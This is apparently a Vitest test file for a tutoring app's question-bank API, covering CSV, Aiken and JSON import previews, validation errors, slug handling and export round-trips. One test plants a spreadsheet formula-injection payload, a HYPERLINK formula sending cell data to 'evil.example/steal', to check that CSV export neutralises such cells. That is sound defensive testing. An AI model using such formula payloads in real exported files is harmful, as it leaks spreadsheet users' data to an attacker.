// Import into the bank (CSV, Aiken, JSON): a preview writes nothing; a real import writes every
// question with its version 1 (and a JSON file's stimuli) or, on any error, nothing, listing
// each place. Export writes the same formats, and an exported file imports back as the same
// questions.
import { afterAll, describe, expect, it } from "vitest";
import { GET as exportGet } from "@/app/api/bank/export/route";
import { POST as importsPost } from "@/app/api/bank/imports/route";
import { DELETE as questionDelete } from "@/app/api/bank/questions/[id]/route";
import { POST as questionsPost } from "@/app/api/bank/questions/route";
import { POST as stimuliPost } from "@/app/api/bank/stimuli/route";
import { BANK_CSV_HEADER } from "@/lib/bank-import/csv";
import { call } from "../../support/api";
import { db, newStudent, newTopics, newTutor, type TestTopics } from "./authoring-helpers";

afterAll(() => db.$disconnect());

const importFile = (token: string | undefined, body: Record<string, unknown>) =>
  call(importsPost, { path: "/api/bank/imports", token, body });
const bankOf = (ownerId: string) =>
  db.question.findMany({
    where: { ownerId },
    orderBy: [{ createdAt: "asc" }, { id: "asc" }],
    include: { versions: true, topic: true },
  });

const csvFile = (topics: TestTopics) =>
  [
    BANK_CSV_HEADER,
    `Simplify $2^3 \\times 2^2$.,$2^5$,$2^6$,$4^5$,$2^1$,,A,Add the indices.,${topics.child.slug},easy,UTME;WAEC`,
    `Evaluate $3^0$.,0,1,3,"not defined",,B,,${topics.child.slug},,UTME`,
    `Find the angle sum of a triangle.,$90°$,$180°$,$270°$,$360°$,,B,,${topics.other.slug},medium,WAEC`,
  ].join("\n");

describe("CSV", () => {
  it("a preview answers the count per topic and the first questions rendered, and writes nothing", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    const res = await importFile(tutor.token, {
      format: "csv",
      text: csvFile(topics),
      subject: "Mathematics",
      preview: true,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({
      preview: true,
      subject: "Mathematics",
      questions: 3,
      stimuli: 0,
      imported: 0,
      question_ids: [],
      topics: [
        { topic: topics.child.slug, name: topics.child.name, questions: 2 },
        { topic: topics.other.slug, name: topics.other.name, questions: 1 },
      ],
    });
    expect(res.body.sample).toHaveLength(3);
    expect(res.body.sample[0]).toMatchObject({
      number: 1,
      answer: "A",
      topic: topics.child.slug,
      exams: ["UTME", "WAEC"],
      difficulty: "easy",
    });
    expect(res.body.sample[0].html.text).toContain("<math");
    expect(await db.question.count({ where: { ownerId: tutor.id } })).toBe(0);
  });

  it("a real import writes every question with its version 1, in one go", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    const res = await importFile(tutor.token, {
      format: "csv",
      text: csvFile(topics),
      subject: "Mathematics",
      preview: false,
      defaults: { difficulty: "hard" },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ preview: false, imported: 3, message: "3 questions imported" });
    const rows = await bankOf(tutor.id);
    expect(rows.map((r) => r.id).sort()).toEqual([...res.body.question_ids].sort());
    expect(
      rows.map((r) => [r.question, r.topic?.slug, r.difficulty, r.exams, r.correctIndex, r.quizId, r.subject]),
    ).toEqual([
      ["Simplify $2^3 \\times 2^2$.", topics.child.slug, "easy", ["UTME", "WAEC"], 0, null, "Mathematics"],
      ["Evaluate $3^0$.", topics.child.slug, "hard", ["UTME"], 1, null, "Mathematics"],
      ["Find the angle sum of a triangle.", topics.other.slug, "medium", ["WAEC"], 1, null, "Mathematics"],
    ]);
    for (const row of rows) {
      expect(row.versions).toHaveLength(1);
      expect(row.versions[0]).toMatchObject({
        version: 1,
        text: row.question,
        options: row.options,
        answerIndex: row.correctIndex,
      });
      expect(row.versions[0]!.html).not.toBeNull();
    }
  });

  it("one bad line among good ones writes nothing and names the line", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    const text = [
      csvFile(topics),
      `Bad $\\frac{1}{$ one?,1,2,3,4,,B,,${topics.child.slug},easy,UTME`,
      `Good again?,1,2,3,4,,A,,no-such-topic,easy,UTME`,
    ].join("\n");
    for (const preview of [true, false]) {
      const res = await importFile(tutor.token, { format: "csv", text, subject: "Mathematics", preview });
      expect(res.status).toBe(400);
      expect(res.body.error).toBe("validation_error");
      expect(res.body.message).toMatch(
        /^Line 5: The notation in the question does not render.*\(and 1 more error\)\. Nothing was imported$/,
      );
      expect(Object.keys(res.body.errors)).toEqual(["line 5", "line 6"]);
      expect(res.body.errors["line 6"]).toMatch(/"no-such-topic" is not a topic of Mathematics/);
    }
    expect(await db.question.count({ where: { ownerId: tutor.id } })).toBe(0);
  });

  it("an image key the tutor did not upload names its line", async () => {
    const tutor = await newTutor();
    const text = [
      "question,option_a,option_b,option_c,option_d,answer,exams,image",
      "Why so?,1,2,3,4,A,UTME,bank/other/x.png",
    ].join("\n");
    const res = await importFile(tutor.token, { format: "csv", text, subject: "Mathematics", preview: true });
    expect(res.status).toBe(400);
    expect(res.body.errors["line 2"]).toMatch(/not an image you uploaded/);
  });
});

describe("Aiken", () => {
  const text = [
    "What is $5!$?",
    "A. 20",
    "B. 60",
    "C. 120",
    "D. 720",
    "ANSWER: C",
    "",
    "Which is prime?",
    "A) 21",
    "B) 27",
    "C) 29",
    "D) 33",
    "ANSWER: C",
  ].join("\n");

  it("preview, then import, with the defaults for topic, exams and difficulty", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    const defaults = { topic: topics.parent.id, exams: ["NECO"], difficulty: "easy" };
    const preview = await importFile(tutor.token, {
      format: "aiken",
      text,
      subject: "Mathematics",
      preview: true,
      defaults,
    });
    expect(preview.status, JSON.stringify(preview.body)).toBe(200);
    expect(preview.body).toMatchObject({ questions: 2, topics: [{ topic: topics.parent.slug, questions: 2 }] });
    expect(await db.question.count({ where: { ownerId: tutor.id } })).toBe(0);

    const res = await importFile(tutor.token, {
      format: "aiken",
      text,
      subject: "Mathematics",
      preview: false,
      defaults,
    });
    expect(res.status).toBe(201);
    const rows = await bankOf(tutor.id);
    expect(rows.map((r) => [r.topicId, r.exams, r.difficulty, r.correctIndex, r.versions.length])).toEqual([
      [topics.parent.id, ["NECO"], "easy", 2, 1],
      [topics.parent.id, ["NECO"], "easy", 2, 1],
    ]);
  });

  it("without defaults.exams, or with an unknown default topic → 400 naming the default once", async () => {
    const tutor = await newTutor();
    const noExams = await importFile(tutor.token, { format: "aiken", text, subject: "Mathematics", preview: true });
    expect(noExams.status).toBe(400);
    expect(Object.keys(noExams.body.errors)).toEqual(["defaults.exams"]);
    const badTopic = await importFile(tutor.token, {
      format: "aiken",
      text,
      subject: "Mathematics",
      preview: true,
      defaults: { exams: ["UTME"], topic: "nowhere" },
    });
    expect(badTopic.status).toBe(400);
    expect(badTopic.body.errors).toEqual({
      "defaults.topic": expect.stringMatching(/"nowhere" is not a topic of Mathematics/),
    });
  });

  it("a bad block names its lines; nothing written", async () => {
    const tutor = await newTutor();
    const bad = `${text}\n\nOnly three?\nA. 1\nB. 2\nC. 3\nANSWER: D`;
    const res = await importFile(tutor.token, {
      format: "aiken",
      text: bad,
      subject: "Mathematics",
      preview: false,
      defaults: { exams: ["UTME"] },
    });
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({
      "line 15": "A bank question has 4 or 5 options",
      "line 19": "The answer is D but there is no option D",
    });
    expect(await db.question.count({ where: { ownerId: tutor.id } })).toBe(0);
  });
});

describe("JSON", () => {
  const file = (topic: string) =>
    JSON.stringify(
      {
        subject: "English",
        stimuli: [
          { ref: "p1", kind: "passage", title: "Market day", content: "Every Saturday the market fills with voices." },
        ],
        questions: [
          {
            text: "When does the market fill?",
            options: ["Monday", "Friday", "Saturday", "Sunday"],
            answer: "C",
            topic,
            exams: ["UTME"],
            stimulus: "p1",
          },
          {
            text: "The market fills with…",
            options: ["voices", "water", "cars", "birds"],
            answer: "A",
            topic,
            exams: ["UTME"],
            stimulus: "p1",
          },
          {
            text: "Choose the synonym of 'candid'.",
            options: ["frank", "shy", "rude", "calm", "kind"],
            answer: "A",
            exams: ["WAEC"],
            difficulty: "hard",
          },
        ],
      },
      null,
      2,
    );

  it("a passage and its questions in one file: preview, then import", async () => {
    const tutor = await newTutor();
    const topics = await newTopics("English");
    const preview = await importFile(tutor.token, {
      format: "json",
      text: file(topics.child.slug),
      subject: "English",
      preview: true,
    });
    expect(preview.status, JSON.stringify(preview.body)).toBe(200);
    expect(preview.body).toMatchObject({
      questions: 3,
      stimuli: 1,
      topics: [
        { topic: topics.child.slug, questions: 2 },
        { topic: null, name: null, questions: 1 },
      ],
    });
    expect(preview.body.sample[0].stimulus).toBe("p1");
    expect(await db.stimulus.count({ where: { ownerId: tutor.id } })).toBe(0);

    const res = await importFile(tutor.token, {
      format: "json",
      text: file(topics.child.slug),
      subject: "English",
      preview: false,
    });
    expect(res.status).toBe(201);
    const stimuli = await db.stimulus.findMany({ where: { ownerId: tutor.id } });
    expect(stimuli).toHaveLength(1);
    expect(stimuli[0]).toMatchObject({ subject: "English", kind: "passage", title: "Market day" });
    const rows = await bankOf(tutor.id);
    expect(rows.map((r) => [r.stimulusId, r.options.length, r.versions[0]!.stimulusId])).toEqual([
      [stimuli[0]!.id, 4, stimuli[0]!.id],
      [stimuli[0]!.id, 4, stimuli[0]!.id],
      [null, 5, null],
    ]);
  });

  it("errors name the question's index, the field and the line; nothing written", async () => {
    const tutor = await newTutor();
    const topics = await newTopics("English");
    const bad = file(topics.child.slug).replace('"answer": "A",\n      "topic"', '"answer": "F",\n      "topic"');
    const res = await importFile(tutor.token, { format: "json", text: bad, subject: "English", preview: false });
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({
      "questions[1].answer": "line 35: answer must be the letter of the right option (A to E)",
    });
    expect(res.body.message).toBe(
      "questions[1].answer (line 35): answer must be the letter of the right option (A to E). Nothing was imported",
    );
    expect(await db.stimulus.count({ where: { ownerId: tutor.id } })).toBe(0);
    expect(await db.question.count({ where: { ownerId: tutor.id } })).toBe(0);
  });

  it("slugs: the same file imported again adds nothing; a slug someone else has is an error", async () => {
    const tutor = await newTutor();
    const topics = await newTopics("English");
    const withSlugs = (prefix: string, extra: boolean) => {
      const content = JSON.parse(file(topics.child.slug));
      content.stimuli[0].slug = `${prefix}-passage`;
      content.questions.forEach((q: Record<string, unknown>, i: number) => (q.slug = `${prefix}-q${i + 1}`));
      if (extra)
        content.questions.push({
          slug: `${prefix}-q4`,
          text: "What fills the market?",
          options: ["Songs", "Voices", "Rain", "Dust"],
          answer: "B",
          exams: ["UTME"],
          stimulus: "p1",
        });
      return JSON.stringify(content);
    };
    const prefix = `t${tutor.id.slice(-8)}`;
    const first = await importFile(tutor.token, {
      format: "json",
      text: withSlugs(prefix, false),
      subject: "English",
      preview: false,
    });
    expect(first.status, JSON.stringify(first.body)).toBe(201);
    expect(first.body).toMatchObject({ imported: 3, stimuli: 1 });

    const preview = await importFile(tutor.token, {
      format: "json",
      text: withSlugs(prefix, true),
      subject: "English",
      preview: true,
    });
    expect(preview.status, JSON.stringify(preview.body)).toBe(200);
    expect(preview.body).toMatchObject({ questions: 1, stimuli: 0 });
    const again = await importFile(tutor.token, {
      format: "json",
      text: withSlugs(prefix, true),
      subject: "English",
      preview: false,
    });
    expect(again.status, JSON.stringify(again.body)).toBe(201);
    expect(again.body).toMatchObject({ imported: 1 });
    const bank = await bankOf(tutor.id);
    expect(bank.map((q) => q.slug)).toEqual([`${prefix}-q1`, `${prefix}-q2`, `${prefix}-q3`, `${prefix}-q4`]);
    // The new question refers to the passage imported the first time, not a copy of it.
    expect(await db.stimulus.count({ where: { ownerId: tutor.id } })).toBe(1);
    expect(bank[3]!.stimulusId).toBe(bank[0]!.stimulusId);

    const other = await newTutor();
    const taken = await importFile(other.token, {
      format: "json",
      text: withSlugs(prefix, false),
      subject: "English",
      preview: true,
    });
    expect(taken.status).toBe(400);
    expect(taken.body.errors["questions[0].slug"]).toMatch(/The slug "t\w+-q1" is already used in the bank/);
    expect(taken.body.errors["stimuli[0].slug"]).toMatch(/is already used in the bank/);
    expect(await db.question.count({ where: { ownerId: other.id } })).toBe(0);
  });

  it("a file that is not JSON names the line where reading failed", async () => {
    const tutor = await newTutor();
    const res = await importFile(tutor.token, {
      format: "json",
      text: '{\n  "questions": [\n    {"text": "Why?",}\n  ]\n}',
      subject: "English",
      preview: true,
    });
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({
      "line 3":
        "This is not valid JSON (line 3, column 21): A comma before } leaves an empty entry: remove the last comma",
    });
  });
});

describe("POST /api/bank/imports: the request", () => {
  it("a student → 403, a visitor → 401, a bad request → 400", async () => {
    const body = { format: "csv", text: "x", subject: "Mathematics", preview: true };
    expect((await importFile((await newStudent()).token, body)).status).toBe(403);
    expect((await importFile(undefined, body)).status).toBe(401);
    const tutor = await newTutor();
    for (const bad of [
      { ...body, format: "xlsx" },
      { ...body, subject: "Music" },
      { ...body, preview: "yes" },
      { ...body, text: " " },
      { format: "csv", text: "x", subject: "Mathematics" },
    ]) {
      const res = await importFile(tutor.token, bad);
      expect(res.status, JSON.stringify(bad)).toBe(400);
    }
  });
});

// ---- Export ------------------------------------------------------------------------------------

describe("GET /api/bank/export", () => {
  async function writeBank(token: string, topics: TestTopics) {
    const passage = await call(stimuliPost, {
      token,
      body: {
        subject: "Mathematics",
        kind: "table",
        title: "Prices",
        content: "| item | naira |\n|---|---|\n| pen | 50 |",
      },
    });
    const add = (body: Record<string, unknown>) =>
      call(questionsPost, { token, body: { subject: "Mathematics", exams: ["UTME"], ...body } });
    await add({
      text: "How much are 3 pens?",
      options: ["100", "150", "200", "250"],
      answer: "B",
      topic: topics.child.slug,
      stimulus_id: passage.body.stimulus.id,
      explanation: "$3 \\times 50$.",
    });
    await add({
      text: 'Which is "larger", $2^{10}$ or $10^3$?',
      options: ["$2^{10}$", "$10^3$", "Equal", "Cannot tell", "Neither, really"],
      answer: "A",
      source: { style: "NECO", year: 2012 },
      difficulty: "hard",
      exams: ["NECO", "WAEC"],
    });
    const retired = await add({ text: "Retired question?", options: ["1", "2", "3", "4"], answer: "A" });
    await call(questionDelete, { method: "DELETE", token, params: { id: retired.body.question.id } });
  }
  const content = (rows: Awaited<ReturnType<typeof bankOf>>) =>
    rows.map((r) => ({
      text: r.question,
      options: r.options,
      answer: r.correctIndex,
      explanation: r.explanation,
      topic: r.topicId,
      exams: r.exams,
      source: r.source,
      year: r.sourceYear,
      difficulty: r.difficulty,
      stimulus: r.stimulusId !== null,
    }));

  it("JSON round-trips through import: the same questions, with a copy of their stimulus", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    await writeBank(tutor.token, topics);
    const file = await call(exportGet, {
      path: "/api/bank/export?format=json&subject=Mathematics",
      token: tutor.token,
    });
    expect(file.status).toBe(200);
    expect(file.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(file.headers.get("content-disposition")).toBe('attachment; filename="bank-mathematics.json"');
    expect(file.body.questions).toHaveLength(2);
    expect(file.body.stimuli).toEqual([
      { ref: "s1", kind: "table", title: "Prices", content: "| item | naira |\n|---|---|\n| pen | 50 |", image: null },
    ]);

    const other = await newTutor();
    const res = await importFile(other.token, {
      format: "json",
      text: file.text,
      subject: "Mathematics",
      preview: false,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const original = (await bankOf(tutor.id)).filter((r) => r.status === "active");
    expect(content(await bankOf(other.id))).toEqual(content(original));
    const copied = await db.stimulus.findMany({ where: { ownerId: other.id } });
    expect(copied.map((s) => [s.kind, s.title, s.content])).toEqual([
      ["table", "Prices", "| item | naira |\n|---|---|\n| pen | 50 |"],
    ]);
  });

  it("CSV round-trips the questions (without their stimulus)", async () => {
    const tutor = await newTutor();
    const topics = await newTopics();
    await writeBank(tutor.token, topics);
    const file = await call(exportGet, { path: "/api/bank/export?format=csv&subject=Mathematics", token: tutor.token });
    expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(file.text.split("\r\n")[0]).toBe(
      "question,option_a,option_b,option_c,option_d,option_e,answer,explanation,topic,difficulty,exams,source,image",
    );
    const other = await newTutor();
    const res = await importFile(other.token, {
      format: "csv",
      text: file.text,
      subject: "Mathematics",
      preview: false,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const original = (await bankOf(tutor.id)).filter((r) => r.status === "active");
    expect(content(await bankOf(other.id))).toEqual(content(original).map((q) => ({ ...q, stimulus: false })));
  });

  it("CSV neutralises cells a spreadsheet would run, and still imports back exactly", async () => {
    const tutor = await newTutor();
    const formulaLike = {
      text: '=HYPERLINK("http://evil.example/steal?q="&A1,"Click for the answer")',
      options: ["+1+1", "-2", "@SUM(1)", "'=1"],
      explanation: "-2, because 3 - 5 = -2",
    };
    const made = await call(questionsPost, {
      token: tutor.token,
      body: { subject: "Mathematics", exams: ["UTME"], answer: "B", ...formulaLike },
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const file = await call(exportGet, { path: "/api/bank/export?format=csv&subject=Mathematics", token: tutor.token });
    expect(file.status).toBe(200);
    const row = file.text.split("\r\n")[1]!;
    expect(row).toBe(
      `"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",,B,"'-2, because 3 - 5 = -2",,medium,UTME,original,`,
    );

    const other = await newTutor();
    const res = await importFile(other.token, {
      format: "csv",
      text: file.text,
      subject: "Mathematics",
      preview: false,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const [copy] = await bankOf(other.id);
    expect({
      text: copy!.question,
      options: copy!.options,
      explanation: copy!.explanation,
      answer: copy!.correctIndex,
    }).toEqual({ ...formulaLike, answer: 1 });
  });

  it("only the tutor's own active questions of the subject; a student → 403; bad query → 400", async () => {
    const tutor = await newTutor();
    const empty = await call(exportGet, { path: "/api/bank/export?format=json&subject=Physics", token: tutor.token });
    expect(empty.body).toEqual({ subject: "Physics", stimuli: [], questions: [] });
    expect(
      (
        await call(exportGet, {
          path: "/api/bank/export?format=json&subject=Physics",
          token: (await newStudent()).token,
        })
      ).status,
    ).toBe(403);
    expect(
      (await call(exportGet, { path: "/api/bank/export?format=xml&subject=Physics", token: tutor.token })).status,
    ).toBe(400);
    expect((await call(exportGet, { path: "/api/bank/export?format=csv", token: tutor.token })).status).toBe(400);
  });
});
